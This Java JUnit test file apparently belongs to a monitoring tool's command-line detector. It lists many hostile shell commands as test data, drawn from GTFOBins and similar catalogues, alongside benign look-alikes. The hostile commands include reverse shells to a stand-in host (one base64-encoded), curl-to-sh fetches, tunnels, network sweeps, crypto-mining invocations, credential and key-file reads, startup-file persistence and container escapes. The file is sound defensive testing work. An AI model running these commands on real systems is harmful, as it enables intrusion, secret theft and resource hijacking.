package dev.ale.monitor.detect;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

/**
 * Variants drawn from public attack catalogues (GTFOBins, PayloadsAllTheThings' reverse-shell cheatsheet, MITRE ATT&CK
 * T1572, T1090, T1046, T1496, T1552, T1053, T1611) that the command-line rules missed, each with the class it stands
 * for; and the ordinary work that looks like them and must raise nothing.
 */
class CatalogueVariantsTest {

    private static final String WALLET =
            "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";

    private final CommandLineDetector detector = CommandLineDetector.standard();

    private static Arguments variant(String variantClass, String rule, String command) {
        return arguments(variantClass, rule, command);
    }

    static Stream<Arguments> variants() {
        return Stream.of(
                // programs that run a command given in their arguments (GTFOBins "shell" and "command" entries)
                variant("runner", "reverse-shell.netcat-exec", "find . -exec nc -e /bin/sh 203.0.113.5 4444 \\;"),
                variant("runner", "reverse-shell.netcat-exec", "find /tmp -maxdepth 0 -execdir sh -c 'nc -e /bin/sh 203.0.113.5 4444' \\;"),
                variant("runner", "reverse-shell.netcat-exec", "unbuffer nc -e /bin/sh 203.0.113.5 4444"),
                variant("runner", "reverse-shell.netcat-exec", "rlwrap -cAr nc -e /bin/sh 203.0.113.5 4444"),
                variant("runner", "reverse-shell.netcat-exec", "gdb -nx -ex '!nc -e /bin/sh 203.0.113.5 4444' -ex quit"),
                variant("runner", "reverse-shell.netcat-exec", "gdb -batch -ex 'shell nc -e /bin/sh 203.0.113.5 4444'"),
                variant("runner", "reverse-shell.netcat-exec", "vim -c ':!nc -e /bin/sh 203.0.113.5 4444'"),
                variant("runner", "reverse-shell.netcat-exec", "sqlite3 /dev/null '.shell nc -e /bin/sh 203.0.113.5 4444'"),
                variant("runner", "reverse-shell.netcat-exec", "expect -c 'spawn nc -e /bin/sh 203.0.113.5 4444; interact'"),
                variant("runner", "reverse-shell.netcat-exec", "awk 'BEGIN{system(\"nc -e /bin/sh 203.0.113.5 4444\")}'"),
                variant("runner", "reverse-shell.netcat-exec", "lua -e 'os.execute(\"nc -e /bin/sh 203.0.113.5 4444\")'"),
                variant("runner", "reverse-shell.netcat-exec", "alias x='nc -e /bin/sh'; x 203.0.113.5 4444"),
                variant("runner", "reverse-shell.netcat-exec",
                        "ssh -o PermitLocalCommand=yes -o LocalCommand='nc -e /bin/sh 203.0.113.5 4444' u@203.0.113.5"),
                // a name the script itself gives a program: a variable, a copy
                variant("name", "reverse-shell.netcat-exec", "N=nc; $N -e /bin/sh 203.0.113.5 4444"),
                variant("name", "reverse-shell.netcat-exec", "cp /bin/nc /tmp/cat2; /tmp/cat2 -e /bin/sh 203.0.113.5 4444"),
                variant("name", "tunnel.ssh.remote-forward", "S=ssh; ${S} -R 9000:localhost:22 u@203.0.113.5"),
                variant("name", "tunnel.ssh.remote-forward", "cp /usr/bin/ssh /tmp/s && /tmp/s -R 9000:localhost:22 u@203.0.113.5"),
                variant("name", "mining.program.known-miner", "a=xm; b=rig; ./$a$b -c c.json"),
                variant("name", "probe.scanner", "cp $(which nmap) /tmp/n; /tmp/n -sT 10.0.0.0/24"),
                variant("name", "reverse-shell.netcat-exec", "echo 'nc -e /bin/sh 203.0.113.5 4444' > /tmp/x; sh /tmp/x"),
                variant("name", "reverse-shell.netcat-exec", "printf 'nc -e /bin/sh 203.0.113.5 4444' > run && chmod +x run && ./run"),
                // interpreters and their encodings
                variant("interpreter", "reverse-shell.python-socket", "python3 -c 'exec(__import__(\"base64\").b64decode(\""
                        + "aW1wb3J0IHNvY2tldCxvcyxwdHk7cz1zb2NrZXQuc29ja2V0KCk7cy5jb25uZWN0KCgiMjAzLjAuMTEzLjUiLDQ0NDQpKTtbb3MuZHVwMihzLmZp"
                        + "bGVubygpLGYpZm9yIGYgaW4oMCwxLDIpXTtwdHkuc3Bhd24oInNoIik=\"))'"),
                variant("interpreter", "reverse-shell.perl-socket", "perl -MIO::Socket::INET -e '$c=IO::Socket::INET->new(\"203.0.113.5:4444\");"
                        + "open STDIN,\"<&\",$c;open STDOUT,\">&\",$c;exec \"/bin/sh\"'"),
                variant("interpreter", "reverse-shell.script-socket", "lua -e \"require('socket');require('os');t=socket.tcp();"
                        + "t:connect('203.0.113.5','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');\""),
                variant("interpreter", "reverse-shell.script-socket", "lua5.1 -e 'local s = require(\"socket\") local t = s.tcp() "
                        + "t:connect(\"203.0.113.5\", 4444) while true do local c = t:receive() local f = io.popen(c, \"r\") t:send(f:read(\"*a\")) end'"),
                variant("interpreter", "reverse-shell.script-socket", "echo 'set s [socket 203.0.113.5 4444];while 42 { gets $s c;"
                        + "set e \"exec $c\"; puts $s [eval $e]; flush $s }' | tclsh"),
                variant("interpreter", "reverse-shell.script-socket", "tclsh <<< 'set s [socket 203.0.113.5 4444]; exec sh <@$s >@$s 2>@$s'"),
                variant("interpreter", "reverse-shell.dev-tcp",
                        "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.5 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"),
                // bind shells and netcats by other names
                variant("netcat", "reverse-shell.netcat-exec", "busybox telnetd -l /bin/sh -p 4444"),
                variant("netcat", "reverse-shell.netcat-exec", "websocat -E ws-l:0.0.0.0:8080 sh-c:'sh -i'"),
                variant("netcat", "reverse-shell.shell-pipe", "curl -sN telnet://203.0.113.5:4444 | sh"),
                variant("netcat", "reverse-shell.shell-pipe", "curl -s 203.0.113.5:4444/cmd | sh"),
                variant("netcat", "reverse-shell.shell-pipe", "wget -qO- http://203.0.113.5/s.sh | bash"),
                // tunnels (T1572) and proxies (T1090)
                variant("tunnel", "tunnel.tool.other", "bore local 8000 --to bore.pub"),
                variant("tunnel", "tunnel.tool.other", "ligolo-agent -connect 203.0.113.5:11601 -ignore-cert"),
                variant("tunnel", "tunnel.tool.other", "./agent -connect 203.0.113.5:11601 -ignore-cert"),
                variant("tunnel", "tunnel.tool.other", "proxy -selfcert -laddr 0.0.0.0:11601"),
                variant("tunnel", "tunnel.tool.other", "stunnel -c -d 127.0.0.1:9000 -r 203.0.113.5:443"),
                variant("tunnel", "tunnel.tool.other", "websocat -b tcp-l:127.0.0.1:9000 ws://203.0.113.5:8080"),
                variant("tunnel", "tunnel.tool.other", "dns2tcpc -z t.example.invalid -r ssh 203.0.113.5"),
                variant("tunnel", "tunnel.tool.other", "pingtunnel -type client -l :4455 -s 203.0.113.5"),
                variant("tunnel", "tunnel.tool.other", "udp2raw -c -l0.0.0.0:3333 -r203.0.113.5:4096"),
                variant("tunnel", "tunnel.tool.other", "python3 -m pproxy -l socks5://:1080"),
                variant("tunnel", "tunnel.tool.other", "microsocks -p 1080"),
                variant("tunnel", "tunnel.tool.other", "tor --SocksPort 9050"),
                variant("tunnel", "tunnel.tool.other", "proxychains4 curl http://10.0.0.5"),
                variant("tunnel", "tunnel.tool.other", "npx localtunnel --port 8000"),
                variant("tunnel", "tunnel.tool.other", "tailscale up --authkey tskey-abc"),
                variant("tunnel", "tunnel.tool.other", "zrok share public localhost:8000"),
                variant("tunnel", "tunnel.tool.other", "openvpn --config /tmp/c.ovpn"),
                variant("tunnel", "tunnel.tool.other", "wg-quick up wg0"),
                variant("tunnel", "tunnel.tool.cloudflared", "cloudflared --url http://localhost:8000"),
                variant("tunnel", "tunnel.ssh.remote-forward", "dbclient -R 9000:localhost:22 u@203.0.113.5"),
                variant("tunnel", "tunnel.ssh.remote-forward", "plink -R 9000:localhost:22 u@203.0.113.5"),
                variant("tunnel", "tunnel.ssh.jump-host", "ssh -W 10.0.0.5:22 u@203.0.113.5"),
                variant("tunnel", "tunnel.socat.forward", "socat TCP4:203.0.113.5:9000 TCP4:127.0.0.1:22"),
                variant("tunnel", "tunnel.netcat-relay", "nc -l -p 9000 | nc 203.0.113.5 22"),
                variant("tunnel", "tunnel.netcat-relay", "mkfifo /tmp/b; nc -l -p 9000 < /tmp/b | nc 203.0.113.5 22 > /tmp/b"),
                // network service discovery (T1046)
                variant("probe", "probe.scanner", "nping --tcp -p 22 10.0.0.0/24"),
                variant("probe", "probe.netcat-sweep", "nc -vz 10.0.0.5 22 80 443 3306 5432 6379 8080"),
                variant("probe", "probe.netcat-sweep", "for h in $(cat hosts); do nc -w1 $h 22 </dev/null; done"),
                variant("probe", "probe.http-sweep", "curl -s http://10.0.0.[1-254]:8080/"),
                variant("probe", "probe.http-sweep", "curl http://192.168.1.{1,2,3,4,5}/"),
                variant("probe", "probe.http-sweep", "for i in $(seq 1 254); do host 10.0.0.$i; done"),
                variant("probe", "probe.http-sweep", "for i in $(seq 1 254); do dig -x 10.0.0.$i +short; done"),
                variant("probe", "probe.ping-sweep", "echo 10.0.0.{1..254} | xargs -n1 -P50 ping -c1"),
                variant("probe", "probe.ping-sweep", "i=1; while [ $i -le 254 ]; do ping -c1 10.0.0.$i; i=$((i+1)); done"),
                variant("probe", "probe.ping-sweep", "n=1; until [ $n -gt 254 ]; do ping -c1 10.0.0.$n; let n++; done"),
                variant("probe", "probe.interpreter-sweep", "python3 -c 'import socket\nfor p in range(1,1025):\n  s=socket.socket();"
                        + "s.settimeout(.2)\n  if s.connect_ex((\"10.0.0.5\",p))==0: print(p)'"),
                variant("probe", "probe.interpreter-sweep",
                        "python3 -c 'import socket,ipaddress;[socket.socket().connect_ex((str(h),22)) for h in ipaddress.ip_network(\"10.0.0.0/24\")]'"),
                variant("probe", "probe.interpreter-sweep", "perl -MIO::Socket -e 'for $p (1..1024){print \"$p\\n\" if "
                        + "IO::Socket::INET->new(PeerAddr=>\"10.0.0.5\",PeerPort=>$p,Timeout=>1)}'"),
                variant("probe", "probe.interpreter-sweep", "ruby -rsocket -e '(1..1024).each{|p| begin TCPSocket.new(\"10.0.0.5\",p);puts p;rescue;end}'"),
                variant("probe", "probe.interpreter-sweep", "node -e 'const net=require(\"net\");for(let p=1;p<1025;p++){net.connect(p,\"10.0.0.5\")}'"),
                // resource hijacking (T1496)
                variant("mining", "mining.argv.miner-flag", "./x -a cn/r -o 203.0.113.5:443"),
                variant("mining", "mining.argv.miner-flag", "./x -a ghostrider -o 203.0.113.5:443"),
                variant("mining", "mining.argv.miner-flag", "./x --algorithm ethash -o 203.0.113.5:443"),
                variant("mining", "mining.argv.miner-flag", "./x -a yescrypt -o 203.0.113.5:443 -u x"),
                variant("mining", "mining.argv.stratum-url", "echo '{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}' | nc 203.0.113.5 3333"),
                variant("mining", "mining.argv.stratum-url", "python3 -c 'import json,socket;s=socket.create_connection((\"203.0.113.5\",3333));"
                        + "s.send(json.dumps({\"method\":\"mining.subscribe\",\"params\":[]}).encode())'"),
                variant("mining", "mining.url.miner-download", "docker run -d metal3d/xmrig"),
                variant("mining", "mining.url.miner-download", "python3 -m pip download xmrig"),
                variant("mining", "mining.url.miner-download", "npm install -g coinhive"),
                // unsecured credentials (T1552)
                variant("credential", "credential.token-file", "cat ~/.docker/config.json"),
                variant("credential", "credential.token-file", "cat ~/.netrc"),
                variant("credential", "credential.token-file", "cat ~/.git-credentials"),
                variant("credential", "credential.token-file", "cat ~/.config/gh/hosts.yml"),
                variant("credential", "credential.token-file", "base64 -w0 ~/.npmrc"),
                variant("credential", "credential.token-file", "cat ~/.pypirc ~/.vault-token"),
                variant("credential", "credential.token-file", "cat ~/.bash_history"),
                variant("credential", "credential.token-file", "gpg --export-secret-keys -a"),
                variant("credential", "credential.token-file", "sqlite3 ~/.mozilla/firefox/x.default/logins.json"),
                variant("credential", "credential.key-search", "find / -name id_rsa 2>/dev/null"),
                variant("credential", "credential.key-search", "find /home -name 'id_*' -exec cat {} \\;"),
                variant("credential", "credential.key-search", "grep -r 'BEGIN OPENSSH PRIVATE KEY' / 2>/dev/null"),
                variant("credential", "credential.key-search", "grep -rl 'PRIVATE KEY' /home"),
                variant("credential", "credential.ssh-private-key", "cat /etc/ssh/ssh_host_rsa_key"),
                variant("credential", "credential.ssh-private-key", "cat /etc/ssl/private/server.key"),
                variant("credential", "credential.k8s-service-account", "cat /var/run/secrets/tokens/vault-token"),
                variant("credential", "credential.k8s-service-account", "kubectl get secrets -A -o yaml"),
                variant("credential", "credential.kubeconfig", "cat /etc/kubernetes/kubelet.conf"),
                variant("credential", "credential.kubeconfig", "cat /var/lib/kubelet/pki/kubelet-client-current.pem"),
                variant("credential", "credential.proc-environ", "ps eww"),
                variant("credential", "credential.proc-environ", "ps auxe"),
                // metadata
                variant("metadata", "metadata.endpoint", "curl http://instance-data/latest/"),
                variant("metadata", "metadata.endpoint", "curl http://a9fea9fe.nip.io/"),
                variant("metadata", "metadata.endpoint", "curl $ECS_CONTAINER_METADATA_URI_V4/task"),
                variant("metadata", "metadata.endpoint", "curl http://192.0.0.192/latest/"),
                // scheduled tasks and startup files (T1053, T1546)
                variant("persistence", "persistence.startup-file", "mkdir -p ~/.config/systemd/user && cp x.service ~/.config/systemd/user/"),
                variant("persistence", "persistence.startup-file", "sed -i '$a ./x &' ~/.bashrc"),
                variant("persistence", "persistence.startup-file", "perl -pi -e 's/^/.\\/x &\\n/' ~/.profile"),
                variant("persistence", "persistence.startup-file", "python3 -c 'open(\"/workspace/.bashrc\",\"a\").write(\"./x &\\n\")'"),
                variant("persistence", "persistence.startup-file", "git config core.hooksPath /tmp/h"),
                variant("persistence", "persistence.startup-file", "echo './x' > .git/hooks/post-commit && chmod +x .git/hooks/post-commit"),
                variant("persistence", "persistence.startup-file",
                        "echo 'import os;os.system(\"/tmp/x\")' > ~/.local/lib/python3.11/site-packages/evil.pth"),
                variant("persistence", "persistence.scheduler", "incrontab /tmp/x"),
                // escape to host (T1611)
                variant("escape", "tamper.escape.host-namespace", "python3 -c 'import os;os.unshare(os.CLONE_NEWUSER)'"),
                variant("escape", "tamper.escape.host-namespace", "python3 -c 'import ctypes;ctypes.CDLL(None).ptrace(16,1,0,0)'"),
                variant("escape", "tamper.escape.mount", "python3 -c 'import ctypes;libc=ctypes.CDLL(\"libc.so.6\");libc.mount(b\"proc\",b\"/mnt\",b\"proc\",0,None)'"),
                variant("escape", "tamper.escape.mount", "mknod /dev/sda b 8 0"),
                variant("escape", "tamper.escape.runtime-socket",
                        "kubectl run x --image=alpine --overrides='{\"spec\":{\"hostPID\":true}}'"),
                // ordinary miner invocations kept as a control for the new algorithms
                variant("mining", "mining.argv.pool-option", "./x -o 203.0.113.5:14444 -u " + WALLET));
    }

    @ParameterizedTest(name = "{0}: {1} <- {2}")
    @MethodSource("variants")
    void catalogueVariantsRaiseTheRuleOfTheirClass(String variantClass, String rule, String command) {
        assertThat(detector.inspectShellCommand(command)).extracting(Detection::ruleId).as("%s variant %s", variantClass, command).contains(rule);
    }

    static Stream<String> lookAlikes() {
        return Stream.of(
                // commit messages and searches that name an attack are prose
                "git commit -m \"Add ssh -R 9000:localhost:22 support to the tunnel docs\"",
                "git commit -m 'Fix: nc -e /bin/sh handling in parser'",
                "git commit -m \"detect stratum+tcp:// urls\"",
                "git commit -am 'block bash -i >& /dev/tcp/1.2.3.4/4444'",
                "git tag -a v1 -m 'ssh -R support'",
                "grep stratum docs.txt",
                "grep -rn 'stratum+tcp' src/",
                "rg 'nc -e' tests/",
                "git grep -n 'ssh -D'",
                // fetching packages, local servers, loopback sockets
                "pip download requests",
                "curl https://pypi.org/simple/requests/",
                "curl -fsSL https://get.docker.com | sh",
                "wget -qO- 127.0.0.1:8000/setup.sh | bash",
                "nc -l 127.0.0.1 8000",
                "nc -l 8000 | tar x",
                "nc -lk 8000",
                "python3 -m http.server",
                "python3 -c 'import socket;s=socket.create_connection((\"127.0.0.1\",8000));s.sendall(b\"GET / HTTP/1.0\\r\\n\\r\\n\")'",
                "python3 -c 'import socket\nfor p in range(8000,9000):\n  if socket.socket().connect_ex((\"127.0.0.1\",p)): print(p); break'",
                "python3 -c 'import socket\nfor i in range(30):\n  try: socket.create_connection((\"db\",5432)); break\n  except OSError: pass'",
                "python3 -c 'import socket,time\nfor i in range(300):\n  try: socket.create_connection((\"10.0.0.5\",5432)); break\n  except OSError: time.sleep(0.1)'",
                "node -e 'for(let i=0;i<1000;i++){console.log(i)}'",
                "node -e 'const net=require(\"net\");net.createServer(s=>s.end(\"hi\")).listen(9000,\"127.0.0.1\")'",
                "git clone git@github.com:org/repo.git",
                "git clone ssh://git@github.com/org/repo.git",
                "GIT_SSH_COMMAND='ssh -i deploy_key -o IdentitiesOnly=yes' git fetch",
                "ssh -o StrictHostKeyChecking=accept-new u@127.0.0.1 ls",
                "ssh -o LocalCommand=true -o PermitLocalCommand=no u@127.0.0.1",
                "socat STDIO TCP:127.0.0.1:8000",
                "websocat ws://127.0.0.1:8080/ws",
                "openssl s_client -connect 127.0.0.1:8443 </dev/null",
                // loops and lists that are not sweeps
                "nc -zv localhost 5432 6379 27017",
                "nc -zv db 5432 6379",
                "for h in web1 web2; do ssh $h uptime; done",
                "for port in 8000 8001 8002; do nc -z localhost $port; done",
                "i=0; while [ $i -lt 3 ]; do curl -s http://127.0.0.1:8000/; i=$((i+1)); done",
                "curl -s http://127.0.0.1:8000/items/{1..5}",
                "dig example.com +short",
                "HOST=10.0.0.5; nc -z $HOST 5432",
                "HOST=127.0.0.1; curl http://$HOST:8000/",
                "N=5; for i in $(seq 1 $N); do echo $i; done",
                // programs that run commands, running ordinary ones
                "find . -name '*.py' -exec grep -l TODO {} +",
                "find . -type f -exec chmod 644 {} \\;",
                "awk '{print $1}' file",
                "awk 'BEGIN{system(\"ls\")}'",
                "expect -c 'spawn ssh u@127.0.0.1; expect \"password:\"; send \"x\\r\"; interact'",
                "vim -c ':wq' file",
                "vim +10 file.py",
                "gdb -ex run -ex bt ./prog",
                "sqlite3 db.sqlite '.tables'",
                "alias ll='ls -la'",
                "lua -e 'print(1+1)'",
                "tclsh <<< 'puts hello'",
                "npx jest --coverage",
                "cp /usr/bin/python3 venv/bin/python; venv/bin/python -c 'print(1)'",
                "cp build/app /usr/local/bin/app && app --serve",
                "echo 'print(1)' > /tmp/x.py; python3 /tmp/x.py",
                "echo 'echo hi' > run; sh run",
                // tools named like tunnels, asked for their version or status
                "stunnel -version", "tor --version", "bore --help", "lt --help", "tailscale status", "zrok version",
                // credentials: listing, public parts, one's own project
                "ps -ef", "ps aux", "ps -u agent", "ps -eo pid,cmd",
                "find / -name id_rsa.pub 2>/dev/null",
                "find . -name id_rsa",
                "grep -rn 'PRIVATE KEY' src/",
                "grep -r \"BEGIN CERTIFICATE\" certs/",
                "cat ~/.npmrc.example",
                "ls ~/.docker",
                "kubectl get pods -o yaml",
                "gpg --list-keys",
                "gpg --export -a me@example.com",
                "pip install mining-utils",
                // startup-file look-alikes
                "git config --get core.hooksPath",
                "git -c core.hooksPath=/dev/null commit -m wip",
                "sed -i 's/x/y/' src/main.py",
                "sed -n '1,10p' ~/.bashrc",
                "perl -i -pe 's/a/b/' file.txt",
                "cp config.yaml build/",
                // escape look-alikes
                "python3 -c 'import os;print(os.getpid())'",
                "python3 -c 'import mount_utils'",
                "mknod /tmp/p p",
                "kubectl run x --image=alpine --overrides='{\"spec\":{\"containers\":[{\"name\":\"x\"}]}}'");
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("lookAlikes")
    void lookAlikesOfTheCatalogueVariantsRaiseNothing(String command) {
        assertThat(detector.inspectShellCommand(command)).as("detections for %s", command).isEmpty();
    }
}
